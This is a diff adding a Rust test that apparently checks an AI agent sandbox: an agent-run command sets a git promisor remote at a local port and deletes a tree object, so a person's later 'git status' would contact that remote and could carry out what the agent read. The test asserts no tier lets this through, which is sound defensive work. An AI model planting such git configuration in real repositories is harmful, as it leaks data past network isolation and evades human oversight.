@@ -1,0 +1,47 @@
+//! A remote that git asks by itself for an object that is missing: with the network off it would carry away what an agent read.
+
+use std::net::TcpListener;
+
+use tests::repository::{repository, shell};
+use tests::side_by_side::side_by_side;
+use tests::{User, tier};
+
+use super::attack::{IDENTITY, attack, is_known};
+
+/// A repository beside the project's is the agent's own in the full tier as well.
+const PLACES: [&str; 2] = [".", "sub"];
+
+/// Makes a promisor at a port, and removes an object that every look at what is staged needs.
+fn promise(place: &str, port: u16) -> String {
+    format!(
+        "{IDENTITY} [ -d {place}/.git ] || git init -q {place}; cd {place}; git commit -q --allow-empty -m p; \
+        echo z > z; git add z; git commit -q -m z; \
+        git config remote.o.url http://127.0.0.1:{port}/what-was-read; git config remote.o.promisor true; \
+        git config remote.o.partialclonefilter blob:none; git config extensions.partialClone o; \
+        t=$(git rev-parse 'HEAD^{{tree}}'); rm -f .git/objects/${{t%${{t#??}}}}/${{t#??}}; true"
+    )
+}
+
+#[test]
+fn a_persons_git_asks_no_promisor_that_an_agent_named() {
+    let cases = User::all().into_iter().flat_map(|user| PLACES.map(|place| (user, place)));
+    side_by_side(cases, |(user, place)| {
+        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
+        listener.set_nonblocking(true).unwrap();
+        let command = promise(place, listener.local_addr().unwrap().port());
+        // Nobody answers: that it was asked is all.
+        let look = format!("cd {place} && timeout 2 git status");
+        let control = repository(user);
+        shell(&control, &command);
+        shell(&control, &look);
+        assert!(listener.accept().is_ok(), "{place}: the attack does nothing without us");
+        while listener.accept().is_ok() {}
+        for tier in tier::all() {
+            let world = repository(user);
+            let (done, told) = attack(&world, tier, &command);
+            let seen = shell(&world, &look);
+            assert!(listener.accept().is_err(), "{place}, {tier}: {}\n{}\n{told}", done.stdout, seen.stderr);
+            assert!(is_known(tier, &done, &told), "{place}, {tier}: {}", done.stdout);
+        }
+    });
+}
